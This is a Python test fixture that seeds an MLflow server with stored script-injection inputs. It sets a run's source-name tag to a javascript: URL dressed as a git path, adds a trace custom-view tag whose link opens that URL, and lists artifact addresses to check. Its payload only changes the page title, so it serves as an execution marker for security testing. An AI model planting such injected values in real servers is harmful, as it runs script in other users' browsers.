"""What somebody who may write to MLflow puts there for a reviewer's browser to run (seen on MLflow 3.17.2)."""

import json
import uuid

from mlflow import MlflowClient

from testing.attacks import UPLOADS
from testing.attacks.stage import ARTIFACTS
from testing.browser.viewable_content import trace

SCRIPT = "javascript:void((window.opener||window).document.title='script ran')"
"""Marks the page that it runs in, or the one that opened its own."""


class Hostile:
    """A run whose source is a script, a trace with a view that opens one, and artifacts that are some."""

    def __init__(self, mlflow_server: str) -> None:
        client = MlflowClient(mlflow_server, mlflow_server)
        self.experiment = client.create_experiment(f"hostile {uuid.uuid4().hex[:6]}")
        self.run = client.create_run(self.experiment, run_name="report").info.run_id
        # MLflow's page takes what matches its expression for git repositories for a link.
        client.set_tag(self.run, "mlflow.source.name", f"{SCRIPT}//git/train.py")
        client.set_tag(self.run, "mlflow.source.type", "PROJECT")
        for path, content in UPLOADS.items():
            client.log_text(self.run, content, path)
        self.trace = trace(mlflow_server, self.experiment)
        client.set_experiment_tag(self.experiment, "mlflow.customView.view.v1.v", json.dumps(_view("Review view")))

    @property
    def run_page(self) -> str:
        return f"/experiments/{self.experiment}/runs/{self.run}"

    @property
    def table_page(self) -> str:
        return f"/experiments/{self.experiment}/runs"

    @property
    def trace_page(self) -> str:
        return f"/experiments/{self.experiment}/traces?selectedEvaluationId={self.trace}"

    def addresses(self, name: str) -> list[str]:
        """Every address at which MLflow serves an artifact of the run."""
        path = f"{self.experiment}/{self.run}/artifacts/{name}"
        return [
            f"/get-artifact?path={name}&run_uuid={self.run}",
            f"{ARTIFACTS}/{path}",
            f"{ARTIFACTS.replace('/api/', '/ajax-api/')}/{path}",
        ]


def _view(name: str) -> dict[str, object]:
    """A view of traces, kept in a tag: values of its parts may be calls, made when it is drawn."""
    call = {"call": "openUrl", "args": {"url": SCRIPT}, "returnType": "string"}
    parts = [
        {"id": "root", "component": "Column", "children": ["title", "link"]},
        {"id": "title", "component": "Text", "variant": "h4", "text": "What to look at"},
        {"id": "link", "component": "Text", "text": call},
    ]
    message = {"version": "v0.9", "updateComponents": {"surfaceId": "main", "components": parts}}
    return {"id": "v", "name": name, "label": name, "instruction": "", "createdAtMs": 1, "template": [message]}
